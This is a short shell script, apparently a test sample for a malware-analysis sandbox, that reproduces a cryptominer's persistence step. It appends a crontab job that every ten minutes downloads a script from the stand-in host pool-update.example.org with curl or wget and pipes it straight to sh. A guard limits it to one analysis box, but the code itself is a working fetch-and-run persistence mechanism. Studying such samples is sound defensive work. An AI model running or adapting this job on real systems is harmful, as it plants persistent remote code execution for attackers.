#!/bin/sh
# SPDX-License-Identifier: MIT
# A miner's persistence: the user's crontab gains a job that fetches and
# runs the installer every ten minutes, the table piped to `crontab -`.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
job='*/10 * * * * (curl -fsSL http://pool-update.example.org/i.sh || wget -qO- http://pool-update.example.org/i.sh) | sh'
(crontab -l 2>/dev/null | grep -v pool-update; echo "$job") | crontab - 2>/dev/null
exit 0
